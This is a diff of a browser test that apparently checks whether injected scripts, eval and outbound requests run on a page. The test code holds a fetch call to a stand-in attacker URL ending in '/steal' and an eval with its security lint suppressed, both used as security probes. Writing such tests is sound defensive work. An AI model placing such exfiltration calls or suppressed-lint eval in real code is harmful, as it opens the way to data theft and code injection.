@@ -117,10 +117,11 @@ test.describe('what is put into a page', () => {
       const frame = document.implementation.createHTMLDocument()
       frame.body.innerHTML = '<script src="/_next/static/x.js"></script>'
       place.insertAdjacentHTML('beforeend', frame.body.innerHTML)
-      try {
+      // Later: what the test itself runs may use eval.
+      setTimeout(() => {
         // biome-ignore lint/security/noGlobalEval: it must not run
         eval("ran.push('eval')")
-      } catch {}
+      })
       await fetch('https://evil.example/steal').catch(() => {})
       await new Promise((resolve) => setTimeout(resolve, 500))
       return global.ran
